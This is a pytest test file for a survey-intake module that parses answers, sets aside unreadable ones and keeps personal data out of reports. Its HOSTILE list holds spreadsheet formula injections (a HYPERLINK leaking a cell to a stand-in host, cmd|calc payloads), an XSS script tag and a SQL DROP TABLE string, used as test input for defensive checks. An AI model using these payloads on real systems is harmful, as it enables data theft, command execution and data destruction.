"""Intake reads what can be read, counts what can't with the reason, and keeps nobody's words."""

from __future__ import annotations

import json
from datetime import date

import pyarrow as pa
import pytest

from analysis.answers.intake_report import Found, IntakeReport
from analysis.errors import SurveyError
from data.intake import examine
from tests.surveys import book, filled, headers_only, raw, sheet, take, tiny

HOSTILE = [
    '=HYPERLINK("https://x.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'x'!A1",
    "<script>alert(1)</script>",
    "مرحبا بالعالم",
    "🙂🙃 \u202eevil",
    "'; DROP TABLE answers; --",
    "{{7*7}} ${x} %s \\",
    "very\nlong\tsecret " * 50,
]


def found(answers, kind):
    told = [finding for finding in answers.report.findings if finding.found is kind]
    return [(finding.where, finding.count, finding.rows) for finding in told]


def test_every_response_is_used_or_set_aside_with_a_reason():
    columns = filled(6) | {"team": ["Just me", "2 to 5", "It's complicated", "", "just ME", "9"]}
    report = take(sheet(**columns)).report
    assert (report.rows, report.used, report.solo, report.team) == (6, 6, 2, 1)
    assert report.grouped == 3
    header = tiny().header("team")
    assert found(take(sheet(**columns)), Found.NO_GROUP) == [(header, 3, (4, 5, 7))]
    assert found(take(sheet(**columns)), Found.UNREADABLE) == [(header, 1, (7,))]


def test_options_become_positions_counts_numbers_and_ticks_zero_or_one():
    columns = filled(4) | {"tired": ["never", "Seldom", "Prefer not to say", "ALWAYS"]}
    table = take(
        sheet(**columns, posts=["0", "50", "", "7"], hats=["Writer, Host", "", "editor", "own"])
    ).table
    assert table["q_team"].to_pylist() == [0, 1, 0, 1]
    assert table["q_tired"].to_pylist() == [0, 1, None, 4]
    assert table["q_posts"].to_pylist() == [0, 50, None, 7]
    ticks = [table[f"q_hats_{n}"].to_pylist() for n in range(3)]
    assert ticks == [[1, None, 0, 0], [0, None, 1, 0], [1, None, 0, 0]]


def test_answers_outside_the_options_are_counted_with_their_rows():
    columns = filled(100) | {"tired": ["Never"] * 80 + ["Often", "Oftn"] * 10}
    answers = take(sheet(**columns, posts=["7"] * 97 + ["many", "51", "-1"]))
    told = {where: (count, rows) for where, count, rows in found(answers, Found.UNREADABLE)}
    # the first eight are named
    assert told["I'm tired"] == (10, (83, 85, 87, 89, 91, 93, 95, 97))
    reasons = [f.detail for f in answers.report.findings if f.where == tiny().header("posts")]
    assert reasons == [
        "1 answer set aside, not a number",
        "2 answers set aside, outside the possible range",
    ]
    assert answers.table["q_tired"].null_count == 10


def test_the_three_counts_of_each_question_add_up_to_the_rows_in_use():
    columns = filled(40) | {"tired": ["Oftn", "", "n/a", "Prefer not to say"] + ["Often"] * 36}
    report = take(sheet(**columns)).report
    (tired,) = (each for each in report.questions if each.question == "tired")
    assert (tired.read, tired.missing, tired.set_aside) == (36, 3, 1)
    assert all(q.read + q.missing + q.set_aside == report.used == 40 for q in report.questions)


def test_impossible_days_are_set_aside_and_their_rows_kept():
    days = ["2026-02-30", "1/1/1900", "1/1/2031"]
    for n in range(10):  # as many people as a wave with a name has
        days += ["45000", f"3/4/2026 10:{n:02}:00", "2026-11-23"]
    answers = take(sheet(**filled(33), wave=days))
    assert found(answers, Found.UNREADABLE) == [("Timestamp", 3, (2, 3, 4))]
    assert [wave.code for wave in answers.codebook.questions["wave"].waves] == [
        "2023-q1",  # 45000 is 15 March 2023
        "2026-q1",
        "2026-q4",  # tomorrow already, east of here
    ]
    assert answers.table["q_wave"].to_pylist() == [None, None, None, *[0, 1, 2] * 10]


def test_a_day_that_somebody_would_not_tell_is_no_impossible_day():
    days = ["Prefer not to say", "N/A", *["2026-03-04"] * 10]
    answers = take(sheet(**filled(12), wave=days))
    assert found(answers, Found.UNREADABLE) == []
    assert answers.table["q_wave"].to_pylist() == [None, None, *[0] * 10]


def test_the_moment_of_answering_is_kept_only_as_a_wave():
    moments = [f"{day}/2026 10:11:{n}" for n in range(10, 15) for day in ("3/4", "2/1")]
    answers = take(sheet(**filled(10), wave=moments))
    assert answers.table["q_wave"].to_pylist() == [0] * 10
    assert all(str(column.type) == "int32" for column in answers.table.columns)


def test_a_row_that_repeats_another_in_every_cell_counts_once():
    columns = {name: [*held, held[0], held[0]] for name, held in filled(4).items()}
    wave = ["1/5/2026 9:00", "1/5/2026 9:01", "1/5/2026 9:02", "1/5/2026 9:03"]
    answers = take(sheet(**columns, wave=[*wave, wave[0], "1/5/2026 9:05"]))
    assert found(answers, Found.DUPLICATE_ROWS) == [("Whole sheet", 1, (6,))]
    assert (answers.report.rows, answers.report.used) == (6, 5)


def test_two_people_who_answered_alike_are_two_where_no_moment_tells_them_apart():
    assert take(sheet(**filled(8))).report.used == 8


def test_a_codebook_may_keep_repeated_rows():
    keep = tiny().intake.model_copy(update={"duplicate_rows": "keep"})
    table = sheet(**filled(4), wave=["1/5/2026 9:00"] * 4)
    assert take(table, tiny().model_copy(update={"intake": keep})).report.used == 4
    assert take(table).report.used == 2


def test_a_day_alone_makes_no_two_people_one():
    assert take(sheet(**filled(8), wave=["1/5/2026"] * 8)).report.used == 8
    assert take(sheet(**filled(8), wave=["1/5/2026 0:00:00"] * 8)).report.used == 8
    assert take(sheet(**filled(8), wave=["46027"] * 8)).report.used == 8


def test_scales_answered_in_part_are_counted():
    columns = filled(6)
    columns["tired"] = ["Often", "", "Often", "", "Often", "Often"]
    columns["tense"] = ["", "Often", "", "", "Often", "Often"]
    columns["eager"] = ["", "Often", "", "", "Often", "Often"]
    answers = take(sheet(**columns))
    assert found(answers, Found.HALF_ANSWERED) == [("Strain", 2, ())]
    assert found(answers, Found.PRORATED) == [("Strain", 1, ())]


@pytest.mark.parametrize("cell", ["anna@example.org", "@anna_posts", "+49 171 2345678", "1.2.3.4"])
def test_a_cell_that_names_a_person_is_refused_in_a_known_column(cell):
    answers = take(sheet(**filled(4), region=["North", cell, "South", "South"]))
    assert found(answers, Found.IDENTITY) == [("Where do you work?", 1, (3,))]
    assert answers.table["q_region"].to_pylist() == [0, None, 1, 1]


@pytest.mark.parametrize(("names", "kept"), [(4, True), (5, False)])
def test_a_known_column_that_often_names_people_is_not_read_at_all(names, kept):
    cells = [f"person{n}@example.org" for n in range(names)]
    cells += ["North", "South"] * 20
    answers = take(sheet(**filled(50), region=[*cells, *[""] * 50][:50]))
    assert found(answers, Found.IDENTITY)[0][1] == names
    assert ("q_region" in answers.table.column_names) == kept
    assert "example.org" not in json.dumps(answers.report.as_json())


def test_no_word_that_anybody_wrote_is_in_the_report():
    count = len(HOSTILE)
    columns = filled(2 * count)
    texts = [*HOSTILE, *reversed(HOSTILE)]
    for name in ("tired", "tense", "eager"):
        columns[name] = texts
    table = sheet({"Anything else?": texts}, **columns, region=texts, hats=texts, posts=texts)
    report = examine(table, tiny(), "answers.csv", date(2026, 11, 22)).report
    told = json.dumps(report.as_json(), ensure_ascii=False) + "\n".join(report.lines())
    for text in HOSTILE:
        assert text not in told
        for word in ("HYPERLINK", "secret", "DROP TABLE", "مرحبا", "🙂", "script>", "cmd|"):
            assert word not in told
    assert report.used == 2 * count


def test_own_answers_beside_ticks_are_counted_and_not_stored():
    answers = take(sheet(**filled(2), hats=["Writer, juggler of secrets", "Host; mime, clown"]))
    assert found(answers, Found.OWN_ANSWER) == [(tiny().header("hats"), 2, ())]
    assert "juggler" not in json.dumps(answers.report.as_json())
    assert answers.table["q_hats_0"].to_pylist() == [1, 0]
    assert answers.table["q_hats_2"].to_pylist() == [0, 1]


def test_one_row_is_a_survey_of_one():
    assert take(sheet(**filled(1))).report.used == 1


def test_columns_in_several_pieces_are_read_as_one():
    whole = sheet(**filled(6), region=["North", "South"] * 3, wave=["1/5/2026"] * 6)
    pieces = tuple(
        pa.chunked_array([*column.slice(0, 2).chunks, *column.slice(2).chunks])
        for column in whole.columns
    )
    broken = type(whole)(whole.headers, pieces)
    assert take(broken).table.equals(take(whole).table)
    assert take(broken).report == take(whole).report


@pytest.mark.parametrize(
    ("table", "problem"),
    [
        (headers_only(), "answers.csv is empty: it has no header row."),
        (headers_only("", " "), "answers.csv is empty: it has no header row."),
        (
            headers_only(*(tiny().header(name) for name in filled(0))),
            "answers.csv has its headers but no answers yet.",
        ),
        (
            sheet(**(filled(3) | {"team": ["", "", "42"]})),
            "None of the responses in answers.csv can be placed: nobody gave a known answer to "
            "'How many people are in your team?'.",
        ),
        (
            sheet(**{name: ["", ""] for name in filled(0)}),
            "answers.csv has its headers but no answers yet.",
        ),
    ],
    ids=["nothing", "blank headers", "headers only", "no group", "all answers missing"],
)
def test_a_sheet_that_cannot_be_read_ends_in_one_sentence_and_a_remedy(table, problem):
    with pytest.raises(SurveyError) as caught:
        take(table)
    assert caught.value.problem == problem
    assert caught.value.remedy.endswith(".")


def test_a_grouping_column_that_names_people_is_withheld():
    said = ["a@example.org", "b@example.org", "c@example.org", "Just me"]
    with pytest.raises(SurveyError) as caught:
        take(sheet(**(filled(4) | {"team": said})))
    assert caught.value.problem == (
        "'How many people are in your team?' is withheld: too many of its answers can't be read."
    )


def test_the_report_says_the_same_in_json():
    columns = filled(6) | {"team": ["Just me", "2 to 5", "", "9", "Just me", "2 to 5"]}
    report = take(sheet({"Email": ["x"] * 6}, **columns, posts=["x"] * 6)).report
    assert len(report.doubts) == 1  # of posts
    said = json.loads(json.dumps(report.as_json()))
    assert IntakeReport.from_json(said) == report
    assert (said["rows"], said["used"], said["source"]) == (6, 6, "answers.csv")
    assert {finding["found"] for finding in said["findings"]} <= {kind.value for kind in Found}


def test_the_report_reads_as_lines():
    report = take(sheet({"Colour": ["x"] * 4}, **filled(4))).report
    lines = report.lines()
    assert lines[0] == "4 responses: 2 soloists, 2 people in teams."
    assert lines[1] == "Everything was read: 16 answers to 4 questions."
    assert lines[2] == "Read from answers.csv with codebook tiny 1.0."
    assert "Column ignored" in lines
    assert any(line.strip().startswith("Colour") for line in lines)


def test_a_named_wave_holds_its_first_and_last_day():
    waves = [
        {"code": "spring", "text": "Spring", "first": "2026-03-01", "last": "2026-05-31"},
        {"code": "autumn", "text": "Autumn", "first": "2026-09-01", "last": "2026-11-30"},
    ]
    made = book({"day": {"text": "Day", "kind": "date", "waves": waves, "date_order": "ymd"}})
    days = ["2026-02-28", "2026-03-01", "2026-05-31", "2026-06-01", "2026-09-01"]
    rows = "\n".join(f"| {'Solo' if n % 2 else 'Team'} | {day} |" for n, day in enumerate(days))
    table = take(raw(f"| Team | Day |\n{rows}"), made).table
    assert table["q_day"].to_pylist() == [None, 0, 0, None, 1]
